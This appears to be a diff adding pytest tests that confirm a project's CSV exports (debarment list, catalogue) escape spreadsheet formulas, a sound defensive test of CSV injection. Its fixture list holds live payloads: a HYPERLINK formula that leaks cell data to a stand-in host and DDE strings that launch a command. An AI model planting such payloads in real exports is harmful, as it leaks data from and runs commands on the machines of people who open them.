@@ -1,0 +1,62 @@
+"""CSV injection (OWASP): a value that a spreadsheet would run as a formula is written as text
+in every CSV the node publishes: the debarment list (a listed organisation names itself
+``=HYPERLINK(…)``), the catalogue, and the survey's tables (hgr.spreadsheets)."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+
+from hgr.audit import Actor
+from hgr.db import Database
+from hgr.debarment import decide, entries_csv, list_entry, notify, open_case, public_entries
+from hgr.spreadsheets import safe_cell, safe_row
+
+ACTOR = Actor("cli:test", "operator")
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_is_written_as_text(formula: str) -> None:
+    assert safe_cell(formula) == "'" + formula
+    assert safe_row([formula, 7, "Example Ltd", None]) == ["'" + formula, 7, "Example Ltd", None]
+
+
+def test_the_published_debarment_list_escapes_what_an_organisation_calls_itself(
+    db: Database,
+) -> None:
+    # Before, the CSV carried the name as given, and a spreadsheet ran it.
+    today = dt.date(2026, 11, 23)
+    with db.transaction() as session:
+        case = open_case(session, ACTOR, organisation=FORMULAS[0], country="GB",
+                         identifiers=["CH:00000666"], regime="uk", ground=FORMULAS[3],
+                         mandatory=True, today=today)  # fmt: skip
+        notify(session, ACTOR, case, today=today)
+        decide(session, ACTOR, case, debar=True, reasons=FORMULAS[1],
+               expected_end=dt.date(2029, 1, 1), today=today)  # fmt: skip
+        list_entry(session, ACTOR, case, today=dt.date(2026, 12, 10))
+        rows = public_entries(session, dt.date(2026, 12, 10))
+    (row,) = csv.DictReader(io.StringIO(entries_csv(rows)))
+    assert row["organisation"] == "'" + FORMULAS[0]
+    assert row["ground"] == "'" + FORMULAS[3]
+    assert row["reasons"] == "'" + FORMULAS[1]
+    assert row["country"] == "GB"  # ordinary text is untouched
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
+
+
+def test_the_catalogue_export_escapes_a_declared_trait_and_population() -> None:
+    from hgr.catalogue import entries
+    from hgr.catalogue.models import CatalogueEntry
+
+    entry = CatalogueEntry(number="CAT-2026-0001", kind="region", institution="BJ-H001",
+                           province="110000", subject=FORMULAS[3], region="110000",
+                           condition=None, trait=FORMULAS[0], generations=None, affected=None,
+                           status="declared", protected=False, evidence={})  # fmt: skip
+    (row,) = csv.DictReader(io.StringIO(entries.entries_csv([entry])))
+    assert (row["subject"], row["trait"]) == ("'" + FORMULAS[3], "'" + FORMULAS[0])
+    assert row["institution"] == "BJ-H001"
